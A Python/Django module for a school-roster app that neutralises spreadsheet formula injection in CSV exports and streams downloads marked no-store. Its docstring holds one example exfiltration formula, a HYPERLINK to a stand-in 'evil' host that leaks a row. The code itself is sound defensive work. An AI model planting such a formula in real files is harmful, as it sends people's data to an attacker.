"""Every CSV the app writes goes through here, so no cell can run as a spreadsheet formula.

A student's name, a note or an SIS id comes from people and files we do not control; a cell that
starts with = + - @ (or a tab or carriage return, which some spreadsheets skip before those) is
run as a formula when the file is opened: `=HYPERLINK("http://evil/?"&A1)` leaks the row. Such a
cell is written with a leading apostrophe, which spreadsheets show as text. Numbers are left as
they are (-3.5 is a number, not a formula).

    writer = csv_writer(handle)          # a csv.writer whose writerow/writerows escape each cell
    response = csv_response("roster.csv", header, rows)   # an attachment, never cached
"""

import csv
import io
from collections.abc import Iterable

from django.http import StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _is_number(text):
        return "'" + text
    return text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text  # "-1\t" is not a plain number


class SafeCSVWriter:
    """csv.writer with every cell escaped (see the module docstring)."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **options) -> SafeCSVWriter:
    return SafeCSVWriter(handle, **options)


def csv_text(header: Iterable, rows: Iterable[Iterable]) -> str:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


class _Echo:
    def write(self, value):
        return value


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A CSV download streamed row by row (a district's roster need not sit in memory), marked
    no-store: a shared computer's browser cache must not keep student rows."""
    writer = csv.writer(_Echo())

    def lines():
        yield writer.writerow([csv_cell(value) for value in header])
        for row in rows:
            yield writer.writerow([csv_cell(value) for value in row])

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
